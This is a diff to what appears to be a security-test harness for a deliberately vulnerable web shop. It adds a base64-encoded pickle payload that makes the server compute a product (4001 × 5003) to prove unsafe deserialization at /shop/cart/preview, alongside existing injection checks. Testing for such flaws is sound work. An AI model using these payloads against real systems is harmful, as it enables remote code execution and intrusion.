@@ -1,5 +1,6 @@
 """Attacks with text that becomes a command, a template, a name of a file, a condition, markup or a header."""
 
+import base64
 import time
 from collections.abc import Callable, Mapping
 from typing import Final
@@ -58,6 +59,12 @@ def lookup_colleague(visitor: Visitor) -> Shown:
     return Shown("Lina Marlow" in got.text, got.status)
 
 
+def object_cart(visitor: Visitor) -> Shown:
+    saved = base64.b64encode(b"\x80\x03coperator\nmul\nM\xa1\x0fM\x8b\x13\x86R.").decode()
+    got = visitor.call("POST", "/shop/cart/preview", {"saved": saved})
+    return Shown("20017003" in got.text, got.status)
+
+
 ATTACKS: Final[Mapping[str, Callable[[Visitor], Shown]]] = {
     "command-injection-print": command_print,
     "command-injection-contact": command_contact,
@@ -68,4 +75,5 @@ ATTACKS: Final[Mapping[str, Callable[[Visitor], Shown]]] = {
     "header-injection-coach": header_coach,
     "xml-entities-import": xml_import,
     "lookup-injection-colleague": lookup_colleague,
+    "object-injection-cart": object_cart,
 }
